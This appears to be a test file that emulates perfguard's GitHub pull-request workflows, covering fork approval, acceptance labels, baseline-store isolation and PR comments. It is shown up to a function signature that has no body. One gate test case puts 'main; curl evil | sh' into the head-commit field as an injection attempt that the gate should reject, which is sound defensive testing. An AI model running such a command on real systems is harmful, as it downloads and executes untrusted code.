"""The pull-request workflows, run job by job on this CPU machine as a GPU runner would run them.

A temporary git repository is built from the project's tracked files: a bare ``origin`` holding
``main`` (the base commit) and a PR head commit. The benchmark job's ``actions/checkout`` is emulated
by cloning that origin with full history into the step's ``path`` and detaching at its ``ref``,
exactly what the action does with ``fetch-depth: 0``; every ``run:`` step then executes with bash,
in order, with the runner's files (``GITHUB_OUTPUT``, ``GITHUB_ENV``, ``GITHUB_PATH``,
``GITHUB_STEP_SUMMARY``, ``GITHUB_EVENT_PATH``). The "runner's prepared Python environment" is a
fresh virtual environment that sees this interpreter's packages (torch etc.) through a ``.pth``
file; the workflow installs perfguard from the base branch into a virtualenv of its own, for real,
and the tests check that the prepared environment, the runner's baseline store and the runner's
temporary directory are as they were afterwards (the trust model of docs/ci.md).

``gh`` (the GitHub CLI the comment and fork-approval jobs call) is replaced by a small script that
serves the uploaded artifacts from a directory and records API calls; GitHub itself cannot be
reached from here.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest
from test_workflows_emulator import (
    ROOT,
    WORKFLOWS,
    Evaluator,
    JobResult,
    Runner,
    copy_tree_handler,
    evaluate_value,
    load_workflow,
    needs_context,
    to_string,
)

from perfguard.github import MARKER
from perfguard.store import Store
from tests.helpers.project import planted

REPO = "octo/perfguard"
PR_NUMBER = 12
# The benchmarks the end-to-end runs are limited to (perfguard check --bench, matched against asv's
# "name(param reprs)"): the forward time at the quick profile's shortest length (512); the temporary
# project has only `dilated`. One combination = one asv process per round.
BENCH_REGEX = r"\.Forward\.track_time\('dilated', 512, "

# The work metrics of `dilated`'s forward at 512 tokens: exact counts, so a doubled pass reads 2.000
# on a busy CPU (the accepted-regression and the baseline-step tests decide on them).
WORK_REGEX = r"\.Work\.track_forward_(flops|ops|allocated)\('dilated', 512, "
OPS_REGEX = r"\.Work\.track_forward_ops\('dilated', 512, "
ACCEPT_REASON = "the exact reference pass runs twice, on purpose"
TRAILER = f'Perfguard-Accept: dilated Work.* <=2.1 "{ACCEPT_REASON}"'

# The temporary project keeps one implementation, so that verify and check on this 2-core machine
# take seconds, not minutes (the full registry's CPU verification alone takes minutes here).
KEPT_IMPLS = ("dilated",)
TRIMMED_REGISTRY = f"""

# --- test fixture (tests/test_workflows_pr_run.py): a project with fewer implementations ---
import types as _fixture_types

REGISTRY = _fixture_types.MappingProxyType({{k: v for k, v in REGISTRY.items() if k in {KEPT_IMPLS!r}}})
"""

#: The project's re-measurement: 2 rounds a side instead of 5 (a timing suspect, such as the
#: ``slow`` head's, is re-measured in 4 round processes instead of 10; the jobs, not the statistics,
#: are what these tests are about, and 2 rounds of 12+ samples decide a 6x slowdown).
RETRY_ROUNDS = "\n[tool.perfguard.retry]\nrounds = 2\n"

PLANTED_SLOWDOWN = """

# --- planted by tests/test_workflows_pr_run.py: the PR head makes `dilated` 50 ms slower ---
# A busy loop, not sleep(): the CPU timer measures process CPU time, which sleeping does not use.
import time as _planted_time

_planted_build = ImplSpec.build


def _planted_slow_build(self, *args, **kwargs):
    module = _planted_build(self, *args, **kwargs)
    if self.name == "dilated":
        forward = module.forward

        def slow_forward(*a, **k):
            cpu, wall = _planted_time.process_time(), _planted_time.perf_counter()
            while _planted_time.process_time() - cpu < 0.05 or _planted_time.perf_counter() - wall < 0.05:
                pass
            return forward(*a, **k)

        module.forward = slow_forward
    return module


ImplSpec.build = _planted_slow_build
"""

PLANTED_BUG = """

# --- planted by tests/test_workflows_pr_run.py: the PR head makes `dilated` 1% wrong ---
_planted_build = ImplSpec.build


def _planted_wrong_build(self, *args, **kwargs):
    module = _planted_build(self, *args, **kwargs)
    if self.name == "dilated":
        forward = module.forward
        module.forward = lambda *a, **k: forward(*a, **k) * 1.01
    return module


ImplSpec.build = _planted_wrong_build
"""

FAKE_GH = r"""#!/usr/bin/env bash
# Stand-in for the GitHub CLI: serves artifacts from $FAKE_GH_ARTIFACTS, logs every call.
set -euo pipefail
printf '%s\n' "$*" >> "$FAKE_GH_LOG"
case "$1" in
  api)
    if [[ "$*" == *"/artifacts"* ]]; then
      if [[ -d "$FAKE_GH_ARTIFACTS" ]]; then ls "$FAKE_GH_ARTIFACTS"; fi
    fi
    ;;
  run)
    name="" dir=""
    shift 2
    while (($#)); do
      case "$1" in
        --name) name="$2"; shift 2 ;;
        --dir) dir="$2"; shift 2 ;;
        *) shift ;;
      esac
    done
    cp -R "$FAKE_GH_ARTIFACTS/$name/." "$dir/"
    ;;
  *) echo "fake gh: unsupported: $*" >&2; exit 1 ;;
esac
"""


def git(cwd: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "perfguard test",
        "GIT_AUTHOR_EMAIL": "test@example.invalid",
        "GIT_COMMITTER_NAME": "perfguard test",
        "GIT_COMMITTER_EMAIL": "test@example.invalid",
    }
    proc = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=False)
    assert proc.returncode == 0, f"git {' '.join(args)}: {proc.stderr}"
    return proc.stdout.strip()


def tracked_files() -> list[str]:
    out = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, check=True).stdout
    return [f for f in out.decode().split("\0") if f and (ROOT / f).is_file()]


@pytest.fixture(scope="module")
def prepared_python(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A runner's Python environment 'prepared once': torch & co. visible, perfguard not installed."""
    venv = tmp_path_factory.mktemp("runner-python") / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    purelib = subprocess.run(
        [str(venv / "bin" / "python"), "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    shared = {sysconfig.get_path("purelib"), sysconfig.get_path("platlib")}
    (Path(purelib) / "_runner_prepared.pth").write_text("\n".join(sorted(shared)) + "\n")
    return venv / "bin" / "python"


@pytest.fixture(scope="module")
def origin(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A bare origin with ``main`` (the base commit) and PR heads ``clean``, ``slow`` and ``wrong``."""
    top = tmp_path_factory.mktemp("origin")
    src = top / "src"
    src.mkdir()
    for name in tracked_files():
        (src / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(ROOT / name, src / name)
    with (src / "attention" / "registry.py").open("a") as fh:
        fh.write(TRIMMED_REGISTRY)
    with (src / "pyproject.toml").open("a") as fh:
        fh.write(RETRY_ROUNDS)
    git(src, "init", "-q", "-b", "main")
    git(src, "add", "-A")
    git(src, "commit", "-q", "-m", "base")
    base = git(src, "rev-parse", "HEAD")

    git(src, "checkout", "-q", "-b", "clean")
    with (src / "README.md").open("a") as fh:
        fh.write("\nA documentation-only change.\n")
    git(src, "commit", "-qam", "docs only")
    clean = git(src, "rev-parse", "HEAD")

    git(src, "checkout", "-q", "-b", "slow", "main")
    with (src / "attention" / "registry.py").open("a") as fh:
        fh.write(PLANTED_SLOWDOWN)
    git(src, "commit", "-qam", "make dilated slower")
    slow = git(src, "rev-parse", "HEAD")

    git(src, "checkout", "-q", "-b", "wrong", "main")
    with (src / "attention" / "registry.py").open("a") as fh:
        fh.write(PLANTED_BUG)
    git(src, "commit", "-qam", "make dilated wrong")
    wrong = git(src, "rev-parse", "HEAD")

    # a PR that doubles dilated's work on purpose and says so in a Perfguard-Accept trailer
    git(src, "checkout", "-q", "-b", "accept", "main")
    with (src / "attention" / "registry.py").open("a") as fh:
        fh.write(planted(2))
    git(src, "commit", "-qam", f"dilated: the exact reference pass\n\n{TRAILER}\n")
    accept = git(src, "rev-parse", "HEAD")

    # the next commit of main: the same doubling, pushed without any check (a step on main)
    git(src, "checkout", "-q", "-b", "next", "main")
    with (src / "attention" / "registry.py").open("a") as fh:
        fh.write(planted(2, "main"))
    git(src, "commit", "-qam", "dilated: a second pass (pushed to main without a check)")
    following = git(src, "rev-parse", "HEAD")

    # a PR that ships its own history store where perfguard's default store would be (issue 27)
    git(src, "checkout", "-q", "-b", "ships-store", "main")
    (src / ".perfguard").mkdir()
    (src / ".perfguard" / "history.db").write_bytes(b"a store the pull request chose\n")
    git(src, "add", "-f", ".perfguard/history.db")
    git(src, "commit", "-qm", "ship a history store")
    ships_store = git(src, "rev-parse", "HEAD")

    bare = top / "origin.git"
    git(top, "clone", "-q", "--bare", str(src), str(bare))
    return {
        "url": str(bare),
        "base": base,
        "clean": clean,
        "slow": slow,
        "wrong": wrong,
        "accept": accept,
        "next": following,
        "ships-store": ships_store,
    }


@pytest.fixture(scope="module")
def runner_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The GPU runner's persistent store directory (its .env's PERFGUARD_DB), shared by its jobs:
    a store that exists (PR jobs open it read-only, which never creates one) and has no baselines."""
    directory = tmp_path_factory.mktemp("runner-store")
    Store.open(f"sqlite:///{directory / 'history.db'}").close()
    return directory


def pr_event(
    head_sha: str,
    *,
    action: str = "synchronize",
    head_repo: str | None = REPO,
    label: str | None = None,
    draft: bool = False,
    base_ref: str = "main",
    sender: str = "maintainer",
    author: str = "contributor",
    labels: list[str] | None = None,
) -> dict[str, Any]:
    event: dict[str, Any] = {
        "action": action,
        "number": PR_NUMBER,
        "sender": {"login": sender},
        "pull_request": {
            "number": PR_NUMBER,
            "draft": draft,
            "user": {"login": author},
            "head": {
                "sha": head_sha,
                "ref": "feature",
                "repo": {"full_name": head_repo} if head_repo else None,
            },
            "base": {"ref": base_ref, "repo": {"full_name": REPO}},
            "labels": [{"name": n} for n in (labels if labels is not None else [label] if label else [])],
        },
        "repository": {"full_name": REPO, "default_branch": "main"},
    }
    if label:
        event["label"] = {"name": label}
    return event


def make_runner(tmp: Path, event: dict[str, Any], *, vars: dict[str, str] | None = None, **kw: Any) -> Runner:
    pr = event.get("pull_request") or {}
    return Runner(
        workspace=tmp / "work",
        home=tmp / "runner",
        event_name=kw.pop("event_name", "pull_request_target"),
        event=event,
        repository=REPO,
        sha=kw.pop("sha", (pr.get("head") or {}).get("sha", "0" * 40)),
        ref=kw.pop("ref", f"refs/pull/{PR_NUMBER}/merge"),
        base_ref=(pr.get("base") or {}).get("ref", ""),
        head_ref=(pr.get("head") or {}).get("ref", ""),
        vars=vars or {},
        base_env=kw.pop("base_env", {}),
        **kw,
    )


def run_gate(tmp: Path, event: dict[str, Any], vars: dict[str, str] | None = None) -> JobResult:
    workflow = load_workflow(WORKFLOWS / "perfguard-pr.yml")
    runner = make_runner(tmp, event, vars=vars, base_env={"PATH": os.environ["PATH"]})
    return runner.run_job(workflow, "gate")


# --------------------------------------------------------------------------------------------------
# The GPU gate: who may run on the self-hosted runner, for which commit

SHA = "5f1c0d2e3b4a59687766554433221100ffeeddcc"
FORK = "mallory/perfguard"


@pytest.mark.parametrize(
    ("event", "runs"),
    [
        pytest.param(pr_event(SHA, action="opened"), True, id="same-repo opened"),
        pytest.param(pr_event(SHA, action="synchronize"), True, id="same-repo push"),
        pytest.param(pr_event(SHA, action="labeled", label="docs"), False, id="same-repo label: no new code"),
        pytest.param(pr_event(SHA, action="opened", draft=True), False, id="same-repo draft"),
        pytest.param(pr_event(SHA, action="ready_for_review"), True, id="same-repo ready for review"),
        pytest.param(pr_event(SHA, action="opened", head_repo=FORK), False, id="fork opened"),
        pytest.param(
            pr_event(SHA, action="labeled", head_repo=FORK, label="safe-to-bench"), True, id="fork approved"
        ),
        pytest.param(
            pr_event(SHA, action="synchronize", head_repo=FORK, label="safe-to-bench"),
            False,
            id="fork pushes again while the label is still on",
        ),
        pytest.param(
            pr_event(SHA, action="labeled", head_repo=FORK, label="docs"), False, id="fork other label"
        ),
        pytest.param(
            pr_event(
                SHA,
                action="labeled",
                head_repo=FORK,
                label="safe-to-bench",
                sender="mallory",
                author="mallory",
            ),
            False,
            id="fork labelled by its own author",
        ),
        pytest.param(pr_event("main; curl evil | sh", action="opened"), False, id="no plausible head commit"),
        pytest.param(
            pr_event(SHA, action="labeled", head_repo=None, label="safe-to-bench"),
            True,
            id="deleted fork approved",
        ),
        # issue 16: the acceptance label checks the same head again, its trailers approved
        pytest.param(
            pr_event(SHA, action="labeled", label="perfguard-accept"), True, id="same-repo acceptance label"
        ),
        pytest.param(
            pr_event(SHA, action="labeled", label="perfguard-accept", draft=True),
            False,
            id="same-repo draft acceptance label",
        ),
        pytest.param(
            pr_event(
                SHA,
                action="labeled",
                head_repo=FORK,
                label="perfguard-accept",
                labels=["safe-to-bench", "perfguard-accept"],
            ),
            True,
            id="fork acceptance label while approved for the GPU",
        ),
        pytest.param(
            pr_event(SHA, action="labeled", head_repo=FORK, label="perfguard-accept"),
            False,
            id="fork acceptance label without the GPU approval",
        ),
        pytest.param(
            pr_event(
                SHA,
                action="labeled",
                head_repo=FORK,
                label="perfguard-accept",
                labels=["safe-to-bench", "perfguard-accept"],
                sender="mallory",
                author="mallory",
            ),
            False,
            id="fork acceptance label by its own author",
        ),
    ],
)
def test_gate_decides_per_event(event: dict[str, Any], runs: bool, tmp_path: Path) -> None:
    gate = run_gate(tmp_path, event)
    assert gate.outcome == "success", gate.log
    assert gate.outputs == {"run": "true" if runs else "false", "sha": event["pull_request"]["head"]["sha"]}
    assert "### perfguard GPU gate" in gate.summary
    fork = event["pull_request"]["head"]["repo"] != {"full_name": REPO}
    if not runs and fork and event["sender"]["login"] != event["pull_request"]["user"]["login"]:
        assert "add it again" in gate.summary  # tells the maintainer what to do
    if not runs and fork and event["sender"]["login"] == event["pull_request"]["user"]["login"]:
        assert "cannot approve itself" in gate.summary
    if not runs:  # the GPU job does not start (the end-to-end tests below cover the other case)
        bench = make_runner(tmp_path / "b", event).run_job(
            load_workflow(WORKFLOWS / "perfguard-pr.yml"), "benchmark", needs_context(gate)
        )
        assert bench.outcome == "skipped"


def test_gate_uses_the_configured_label(tmp_path: Path) -> None:
    vars = {"PERFGUARD_APPROVAL_LABEL": "bench-ok"}
    approved = pr_event(SHA, action="labeled", head_repo=FORK, label="bench-ok")
    default = pr_event(SHA, action="labeled", head_repo=FORK, label="safe-to-bench")
    assert run_gate(tmp_path / "a", approved, vars).outputs["run"] == "true"
    assert run_gate(tmp_path / "b", default, vars).outputs["run"] == "false"


def fake_gh(tmp: Path) -> tuple[Path, Path, Path]:
    """(bin dir with ``gh``, artifacts dir it serves, log of its calls)."""
    bindir, artifacts, log = tmp / "fake-gh-bin", tmp / "fake-gh-artifacts", tmp / "fake-gh.log"
    bindir.mkdir(parents=True, exist_ok=True)
    (bindir / "gh").write_text(FAKE_GH)
    (bindir / "gh").chmod(0o755)
    log.write_text("")
    return bindir, artifacts, log


@pytest.mark.parametrize(
    ("head_repo", "labels", "deleted"),
    [
        (FORK, ["safe-to-bench", "docs"], ["safe-to-bench"]),
        (FORK, ["docs"], []),
        (REPO, ["safe-to-bench"], []),  # same-repository PRs need no GPU approval: not touched
        (REPO, ["perfguard-accept", "docs"], ["perfguard-accept"]),  # issue 16: from every PR
        (FORK, ["safe-to-bench", "perfguard-accept"], ["safe-to-bench", "perfguard-accept"]),
    ],
)
def test_a_push_revokes_the_approval_labels(
    head_repo: str, labels: list[str], deleted: list[str], tmp_path: Path
) -> None:
    bindir, _, log = fake_gh(tmp_path)
    event = pr_event(SHA, head_repo=head_repo)
    event["pull_request"]["labels"] = [{"name": n} for n in labels]
    runner = make_runner(
        tmp_path,
        event,
        event_name="pull_request_target",
        ref="refs/heads/main",
        base_env={"PATH": f"{bindir}{os.pathsep}{os.environ['PATH']}", "FAKE_GH_LOG": str(log)},
    )
    result = runner.run_job(load_workflow(WORKFLOWS / "perfguard-fork-approval.yml"), "revoke")
    assert result.outcome == "success", result.log
    calls = log.read_text().splitlines()
    assert calls == [f"api --method DELETE repos/{REPO}/issues/{PR_NUMBER}/labels/{name}" for name in deleted]


# --------------------------------------------------------------------------------------------------
# The acceptance approval: who applied the perfguard-accept label, asked of a stand-in for GitHub's API


@dataclass
class FakeAPI:
    """The three REST calls ``perfguard.github approval`` makes, and every request it received."""

    url: str = ""
    events: dict[int, list[dict[str, Any]]] = field(default_factory=dict)
    permissions: dict[str, str] = field(default_factory=dict)
    pulls: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    calls: list[tuple[str, str | None]] = field(default_factory=list)  # (path, Authorization)
    broken: bool = False

    def label(self, number: int, login: str, name: str = "perfguard-accept", action: str = "labeled") -> None:
        self.events.setdefault(number, []).append(
            {"event": action, "actor": {"login": login}, "label": {"name": name}}
        )


@pytest.fixture
def fake_api() -> Iterator[FakeAPI]:
    state = FakeAPI()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            url = urlparse(self.path)
            state.calls.append((url.path, self.headers.get("Authorization")))
            parts = url.path.strip("/").split("/")
            if state.broken:
                return self.reply(502, {"message": "Bad Gateway"})
            if parts[:3] == ["repos", *REPO.split("/")] and len(parts) == 6:
                if parts[3] == "issues" and parts[5] == "events":
                    page = int(dict(q.split("=") for q in url.query.split("&")).get("page", "1"))
                    return self.reply(200, state.events.get(int(parts[4]), [])[(page - 1) * 100 : page * 100])
                if parts[3] == "collaborators" and parts[5] == "permission":
                    permission = state.permissions.get(parts[4], "read")
                    return self.reply(200, {"permission": permission, "role_name": permission})
                if parts[3] == "commits" and parts[5] == "pulls":
                    return self.reply(200, state.pulls.get(parts[4], []))
            return self.reply(404, {"message": "Not Found"})

        def reply(self, status: int, body: Any) -> None:
            data = json.dumps(body).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    state.url = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()


def run_approval(
    tmp: Path,
    origin: dict[str, Any],
    event: dict[str, Any],
    gate: JobResult,
    api: FakeAPI | None,
    workflow: Path = WORKFLOWS / "perfguard-pr.yml",
    vars: dict[str, str] | None = None,
) -> JobResult:
    """The PR workflow's approval job: the base branch checked out, the API at ``api`` (if any)."""
    runner = make_runner(
        tmp / "approval",
        event,
        vars=vars,
        sha=origin["base"],
        base_env={"PATH": os.environ["PATH"]},
        **({"api_url": api.url} if api else {}),
    )
    runner.workspace.parent.mkdir(parents=True, exist_ok=True)
    runner.handlers = {"actions/checkout": checkout_handler(origin["url"], runner.workspace)}
    return runner.run_job(load_workflow(workflow), "approval", needs_context(gate))


@pytest.mark.parametrize(
    ("event", "applier", "permission", "approved"),
    [
        pytest.param(
            pr_event(SHA, action="labeled", label="perfguard-accept"), "maint", "write", "maint", id="writer"
        ),
        pytest.param(
            pr_event(SHA, action="labeled", label="perfguard-accept"), "maint", "admin", "maint", id="admin"
        ),
        pytest.param(
            pr_event(SHA, action="labeled", label="perfguard-accept"), "helper", "triage", "", id="triager"
        ),
        pytest.param(pr_event(SHA, action="opened"), None, "write", "", id="no label"),
        pytest.param(
            pr_event(SHA, action="synchronize", labels=["perfguard-accept"]),
            "maint",
            "write",
            "",
            id="push while the label is being removed",
        ),
    ],
)
def test_the_approval_job_names_the_maintainer_who_applied_the_label(
    event: dict[str, Any],
    applier: str | None,
    permission: str,
    approved: str,
    tmp_path: Path,
    origin: dict[str, Any],
    fake_api: FakeAPI,
) -> None:
    if applier:
        fake_api.label(PR_NUMBER, applier)
        fake_api.permissions[applier] = permission
    gate = run_gate(tmp_path / "gate", event)
    assert gate.outputs["run"] == "true", gate.log
    job = run_approval(tmp_path, origin, event, gate, fake_api)
    assert job.outcome == "success", job.log
    assert job.outputs == {"approved_by": approved}
    if event["action"] == "synchronize":
        assert fake_api.calls == []  # new commits: the label is being removed, nothing is asked
        return
    assert (f"/repos/{REPO}/issues/{PR_NUMBER}/events", "Bearer ***") in fake_api.calls  # github.token
    # The benchmark job would see exactly that login.
    bench = load_workflow(WORKFLOWS / "perfguard-pr.yml")["jobs"]["benchmark"]
    contexts = {"needs": needs_context(gate, job), "github": {}, "vars": {}}
    env = to_string(evaluate_value(bench["env"]["PERFGUARD_ACCEPT_APPROVED_BY"], Evaluator(contexts)))
    assert env == approved


def test_an_api_failure_approves_nothing_and_the_check_still_runs(
    tmp_path: Path, origin: dict[str, Any], fake_api: FakeAPI
) -> None:
    fake_api.broken = True
    event = pr_event(SHA, action="labeled", label="perfguard-accept")
    gate = run_gate(tmp_path / "gate", event)
    job = run_approval(tmp_path, origin, event, gate, fake_api)
    assert job.outcome == "success" and job.outputs == {"approved_by": ""}
    assert "::warning title=perfguard approval::" in job.step("Who applied the acceptance label").output
    failed = JobResult("approval", "failure", outputs={})
    benchmark = load_workflow(WORKFLOWS / "perfguard-pr.yml")["jobs"]["benchmark"]
    its_condition = {"jobs": {"benchmark": {**benchmark, "steps": [{"run": "echo checked"}]}}}
    for needs in (needs_context(gate, job), needs_context(gate, failed)):
        runner = make_runner(tmp_path / "b", event, base_env={"PATH": os.environ["PATH"]})
        bench = runner.run_job(its_condition, "benchmark", needs)
        assert bench.outcome == "success"  # no approval is no acceptance, never no check


# --------------------------------------------------------------------------------------------------
# The benchmark job and the comment job, end to end


def checkout_handler(
    origin_url: str, workspace: Path, *, pr_head: str | None = None, at: str | None = None
) -> Any:
    """actions/checkout: a clone of origin (all branches as origin/*) in ``path``, detached at ``ref``.

    ``pr_head``: the PR's head commit; checking it out needs full history (the merge-base) and,
    under pull_request_target, checkout v7's explicit opt-in, as on GitHub.  ``at``: the event's
    commit (``github.sha``), what a checkout without ``ref`` gets (default: origin's main).
    """

    def handle(inputs: dict[str, Any], env: dict[str, str]) -> None:
        assert inputs.get("persist-credentials") is False
        target = workspace / str(inputs.get("path") or ".")
        assert not target.exists() or not any(target.iterdir()), f"{target} is not empty"
        target.parent.mkdir(parents=True, exist_ok=True)
        git(target.parent, "clone", "-q", "--no-checkout", origin_url, str(target))
        ref = str(inputs.get("ref") or at or "main")
        if ref == pr_head:
            if inputs.get("fetch-depth", 1) != 0:
                raise AssertionError("the benchmark needs full history (fetch-depth: 0)")
            if env.get("GITHUB_EVENT_NAME") == "pull_request_target" and not inputs.get(
                "allow-unsafe-pr-checkout"
            ):
                raise AssertionError("Refusing to check out fork pull request code (checkout v7)")
        git(
            target,
            "checkout",
            "-q",
            "--detach",
            git(target, "rev-parse", f"origin/{ref}") if ref == "main" else ref,
        )

    return handle


def run_pr_workflow(
    tmp: Path,
    origin: dict[str, Any],
    head: str,
    prepared_python: Path,
    store: Path,
    *,
    base_ref: str = "main",
    bench: str = BENCH_REGEX,
    event: dict[str, Any] | None = None,
    api: FakeAPI | None = None,
    workflow_path: Path = WORKFLOWS / "perfguard-pr.yml",
    vars: dict[str, str] | None = None,
) -> dict[str, Any]:
    """Gate, the acceptance approval, the benchmark job on the 'GPU runner' of the PR pool, then the
    comment job (dry run).  ``event``: a push of ``head`` unless given; ``api``: GitHub's API;
    ``workflow_path``: another PR workflow (the one ``perfguard init`` writes), with ``vars``."""
    workflow = load_workflow(workflow_path)
    vars = vars or {}
    event = event or pr_event(head, base_ref=base_ref)
    gate = run_gate(tmp / "gate", event)
    assert gate.outputs["run"] == "true", gate.log
    approval = run_approval(tmp, origin, event, gate, api, workflow_path, vars)
    assert approval.outcome == "success", approval.log

    artifacts = tmp / "artifacts"
    runner = make_runner(
        tmp / "gpu",
        event,
        sha=origin["base"],  # pull_request_target: the base branch's commit (this workflow's file)
        vars={
            **vars,
            "PERFGUARD_PYTHON": str(prepared_python),
            "PERFGUARD_PROFILE": "quick",
            "PERFGUARD_BENCH": bench,
        },
        base_env={
            "PATH": os.environ["PATH"],
            "HOME": os.environ.get("HOME", str(tmp)),
            # The runner's .env: its baseline store, read-only to this job (docs/ci.md).
            "PERFGUARD_DB": f"sqlite:///{store}/history.db",
            "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        },
    )
    runner.workspace.parent.mkdir(parents=True, exist_ok=True)
    runner.handlers = {
        "actions/checkout": checkout_handler(origin["url"], runner.workspace, pr_head=head),
        "actions/upload-artifact": copy_tree_handler(artifacts),
    }
    prepared_before = _listing(prepared_python.parent.parent)
    store_before = _store_state(store)
    bench_job = runner.run_job(workflow, "benchmark", needs_context(gate, approval))

    # The comment job of the same run: a GitHub-hosted machine, the base branch, the artifact as data.
    bindir, served, gh_log = fake_gh(tmp / "comment")
    if artifacts.exists():
        shutil.copytree(artifacts, served)
    plan_path = tmp / "comment-plan.json"
    commenter = make_runner(
        tmp / "comment",
        event,
        vars=vars,
        sha=origin["base"],
        base_env={
            "PATH": f"{bindir}{os.pathsep}{os.environ['PATH']}",
            "FAKE_GH_ARTIFACTS": str(served),
            "FAKE_GH_LOG": str(gh_log),
            "PERFGUARD_COMMENT_DRY_RUN": str(plan_path),
        },
    )
    commenter.handlers = {"actions/checkout": checkout_handler(origin["url"], commenter.workspace)}
    comment_job = commenter.run_job(workflow, "comment", needs_context(gate, bench_job))
    plan = json.loads(plan_path.read_text()) if plan_path.exists() else None
    return {
        "job": bench_job,
        "approval": approval,
        "artifact": artifacts / "perfguard-report",
        "comment_job": comment_job,
        "plan": plan,
        "prepared_changed": _listing(prepared_python.parent.parent) != prepared_before,
        "store_changed": _store_state(store) != store_before,
        "runner_temp": sorted(p.name for p in (tmp / "gpu" / "runner").glob("_temp-benchmark-*/*")),
        "workspace": sorted(p.name for p in runner.workspace.iterdir()) if runner.workspace.exists() else [],
    }


def _listing(directory: Path) -> dict[str, tuple[int, int]]:
    """Every file under ``directory`` with its size and modification time (what 'unchanged' means)."""
    return {
        str(p.relative_to(directory)): (p.stat().st_size, p.stat().st_mtime_ns)
        for p in sorted(directory.rglob("*"))
        if p.is_file()
    }


def _store_state(directory: Path) -> tuple[str | None, bool]:
    """The runner's SQLite store as a writer would change it: the database's bytes, and whether its
    write-ahead log holds anything (a read-only reader may leave empty -wal/-shm files behind)."""
    database, wal = directory / "history.db", directory / "history.db-wal"
    digest = hashlib.sha256(database.read_bytes()).hexdigest() if database.exists() else None
    return digest, wal.exists() and wal.stat().st_size > 0


def assert_isolated(run: dict[str, Any]) -> None:
    """The trust model's promises about a PR job, checked on the machine after it ran."""
    assert not run["prepared_changed"], "the PR job wrote into the runner's prepared Python environment"
    assert not run["store_changed"], "the PR job changed the runner's baseline store"
    assert "perfguard-job" not in run["runner_temp"], "the job's virtualenv and caches were left behind"
    assert run["workspace"] == [], f"checkouts left in the workspace: {run['workspace']}"


def annotations(job: JobResult) -> list[str]:
    return [line for step in job.steps for line in step.output.splitlines() if line.startswith("::error")]


def test_missing_baseline_branch_fails_with_a_message_and_still_reports(
    tmp_path: Path, origin: dict[str, Any], prepared_python: Path, runner_store: Path
) -> None:
    """Exit 2 path: the job fails, says what to do, and the summary, artifact and comment say it too.
    (On a runner whose baseline snapshot does not exist yet: the job says so and goes on without.)"""
    no_store = tmp_path / "no-store"
    no_store.mkdir()
    run = run_pr_workflow(tmp_path, origin, origin["clean"], prepared_python, no_store, base_ref="release-9")
    job: JobResult = run["job"]
    store_step = job.step("Check the baseline store is out of this job's reach")
    assert store_step.outcome == "success"
    assert f"The baseline store {no_store}/history.db does not exist" in store_step.output
    assert list(no_store.iterdir()) == []  # nothing created there
    assert job.outcome == "failure"
    assert job.step("Resolve the baseline branch").returncode == 2
    assert [job.step(n).outcome for n in ("perfguard verify", "perfguard check")] == ["skipped", "skipped"]
    assert any(
        "origin/release-9 is not in the checkout and could not be fetched" in a for a in annotations(job)
    )
    assert job.summary.startswith(MARKER)
    assert (
        "origin/release-9 is not in the checkout" in job.summary and "hint: the checkout step" in job.summary
    )

    artifact = run["artifact"]
    for name in ("comment.md", "baseline.log", "baseline.exit"):
        assert (artifact / name).stat().st_size > 0, name
    assert not (artifact / "pr.json").exists()  # the PR number comes from the event, not the artifact

    assert run["comment_job"].outcome == "success", run["comment_job"].log
    assert run["plan"]["pr"] == PR_NUMBER and "origin/release-9" in run["plan"]["body"]
    assert "GitHub reports the benchmark job as **failure**" in run["plan"]["body"]
    assert_isolated(run)


@pytest.mark.slow
def test_a_runner_without_a_store_never_opens_one_the_pull_request_ships(
    tmp_path: Path, origin: dict[str, Any], prepared_python: Path
) -> None:
    """Issue 27, item 4: without PERFGUARD_DB the check reads no baseline store at all, not the default
    path inside the PR's checkout, where the PR force-added a file of its choosing."""
    no_store = tmp_path / "no-store"
    no_store.mkdir()
    run = run_pr_workflow(tmp_path, origin, origin["ships-store"], prepared_python, no_store, bench=OPS_REGEX)
    job: JobResult = run["job"]
    check = job.step("perfguard check")
    assert check.returncode == 0, check.output
    assert "an untrusted check never reads" in check.output and "/pr/.perfguard/history.db" in check.output
    assert "measuring it" in check.output  # the merge-base, in this job
    assert job.outcome == "success", job.log
    assert_isolated(run)


def _skip_until_built(job: JobResult) -> None:
    """perfguard verify/check land on main from other branches (issues 3 and 4); until then the
    stubs exit 2 with "is not built yet" and the end-to-end verdicts cannot be checked. The same for
    check's --untrusted/--results-db (issue 13, the lead's check orchestration)."""
    for name in ("perfguard verify", "perfguard check"):
        step = job.step(name)
        if "is not built yet" in step.output:
            pytest.skip(f"{name} is not built on this branch yet: {step.output.strip().splitlines()[0]}")
        if "No such option" in step.output and (
            "--untrusted" in step.output or "--results-db" in step.output
        ):
            pytest.skip(f"{name}: --untrusted/--results-db are not built on this branch yet (issue 13)")


@pytest.mark.slow
def test_clean_head_passes_and_publishes_everything(
    tmp_path: Path, origin: dict[str, Any], prepared_python: Path, runner_store: Path
) -> None:
